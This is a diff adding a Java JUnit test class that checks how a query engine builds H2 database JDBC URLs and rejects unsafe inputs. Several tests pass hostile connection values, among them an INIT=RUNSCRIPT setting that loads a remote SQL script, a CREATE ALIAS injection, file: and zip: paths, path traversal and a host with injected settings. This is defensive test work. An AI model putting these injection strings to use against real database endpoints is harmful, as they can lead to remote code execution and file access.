@@ -0,0 +1,57 @@
+package com.fordevs.dynamicqueryengine.dialect;
+
+import com.fordevs.dynamicqueryengine.dto.DatabaseCredentials;
+import org.junit.jupiter.api.Test;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+class H2DialectTest {
+
+    private final H2Dialect dialect = new H2Dialect();
+
+    @Test
+    void keepsInMemoryDatabaseOpen() {
+        assertThat(dialect.buildJdbcUrl(credentials("localhost", "mem:tenant1")))
+                .isEqualTo("jdbc:h2:mem:tenant1;DB_CLOSE_DELAY=-1");
+    }
+
+    @Test
+    void reachesPlainNamesThroughTcpServer() {
+        assertThat(dialect.buildJdbcUrl(credentials("db.local", "tenant-1")))
+                .isEqualTo("jdbc:h2:tcp://db.local:9092/tenant-1");
+    }
+
+    @Test
+    void rejectsUrlSettings() {
+        assertThatThrownBy(() -> dialect.buildJdbcUrl(credentials("localhost", "mem:x;INIT=RUNSCRIPT FROM 'http://host/x.sql'")))
+                .isInstanceOf(IllegalArgumentException.class);
+        assertThatThrownBy(() -> dialect.buildJdbcUrl(credentials("localhost", "x;INIT=CREATE ALIAS")))
+                .isInstanceOf(IllegalArgumentException.class);
+    }
+
+    @Test
+    void rejectsFilesAndOtherProtocols() {
+        assertThatThrownBy(() -> dialect.buildJdbcUrl(credentials("localhost", "file:/tmp/x")))
+                .isInstanceOf(IllegalArgumentException.class);
+        assertThatThrownBy(() -> dialect.buildJdbcUrl(credentials("localhost", "../x")))
+                .isInstanceOf(IllegalArgumentException.class);
+        assertThatThrownBy(() -> dialect.buildJdbcUrl(credentials("localhost", "zip:/tmp/x.zip!/db")))
+                .isInstanceOf(IllegalArgumentException.class);
+        assertThatThrownBy(() -> dialect.buildJdbcUrl(credentials("localhost", null)))
+                .isInstanceOf(IllegalArgumentException.class);
+    }
+
+    @Test
+    void rejectsHostWithPathOrSettings() {
+        assertThatThrownBy(() -> dialect.buildJdbcUrl(credentials("localhost/mem:x;INIT=x", "tenant1")))
+                .isInstanceOf(IllegalArgumentException.class)
+                .hasMessageContaining("host");
+        assertThatThrownBy(() -> dialect.buildJdbcUrl(credentials(null, "tenant1")))
+                .isInstanceOf(IllegalArgumentException.class);
+    }
+
+    private static DatabaseCredentials credentials(String host, String databaseName) {
+        return new DatabaseCredentials("h2", host, 9092, databaseName, "sa", "");
+    }
+}